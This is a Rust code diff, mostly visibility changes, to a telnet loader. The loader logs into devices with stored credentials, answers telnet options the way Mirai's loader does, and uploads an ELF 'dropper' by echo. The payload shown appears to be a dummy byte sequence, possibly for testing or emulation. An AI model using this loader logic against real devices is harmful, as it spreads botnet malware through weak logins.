@@ -5,7 +5,7 @@
 use std::collections::BTreeMap;
 
 /// Bytes that an upload by `echo` sends: a header that says ELF, and every byte there is.
-pub fn dropper() -> Vec<u8> {
+pub(crate) fn dropper() -> Vec<u8> {
     let header = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0";
     header.iter().copied().chain(0..=255).chain(0..=99).collect()
 }
@@ -15,7 +15,7 @@ const CHUNK: usize = 64;
 
 /// What the loader wants next.
 #[derive(Debug, PartialEq, Eq)]
-pub enum Wish {
+pub(crate) enum Wish {
     /// Send these bytes.
     Send(Vec<u8>),
     /// Wait for more of the answer to what was sent last.
@@ -24,7 +24,7 @@ pub enum Wish {
 }
 
 /// One dialogue.
-pub struct Loader {
+pub(crate) struct Loader {
     steps: Vec<String>,
     at: usize,
     /// What has come since the last line was sent, without telnet's commands.
@@ -32,14 +32,16 @@ pub struct Loader {
     /// Answers to options that wait to be sent.
     replies: Vec<u8>,
     stream: Vec<u8>,
-    pub learnt: BTreeMap<String, String>,
+    learnt: BTreeMap<String, String>,
     writable: Vec<String>,
 }
 
 impl Loader {
-    /// A loader for this dialogue; `is_control`: the bot itself is left out.
-    pub fn new(dialogue: &str, user: &str, password: &str, is_control: bool) -> Self {
+    /// A loader for this dialogue; `is_control`: the device has no login, and the bot itself cannot run there.
+    pub(crate) fn new(dialogue: &str, user: &str, password: &str, is_control: bool) -> Self {
         let lines = dialogue.lines().filter(|line| !line.starts_with('#') && !line.is_empty());
+        let login = ["? login", "> {user}", "? password", "> {password}"];
+        let lines = lines.filter(|line| !(is_control && login.contains(line)));
         let steps = lines.filter_map(|line| match line.strip_prefix('@') {
             Some(_) if is_control => None,
             Some(rest) => Some(rest.to_owned()),
@@ -58,14 +60,8 @@ impl Loader {
         }
     }
 
-    /// Leaves out the login: the device has none.
-    pub fn without_login(mut self) -> Self {
-        self.steps.retain(|step| !["? login", "> {user}", "? password", "> {password}"].contains(&step.as_str()));
-        self
-    }
-
     /// Takes what the device sends. Options are answered as Mirai's loader does.
-    pub fn receive(&mut self, bytes: &[u8]) {
+    pub(crate) fn receive(&mut self, bytes: &[u8]) {
         self.stream.extend_from_slice(bytes);
         let stream = std::mem::take(&mut self.stream);
         let mut rest = stream.as_slice();
@@ -100,7 +96,7 @@ impl Loader {
     }
 
     /// What to do next.
-    pub fn next(&mut self) -> Wish {
+    pub(crate) fn next(&mut self) -> Wish {
         if !self.replies.is_empty() {
             return Wish::Send(std::mem::take(&mut self.replies));
         }
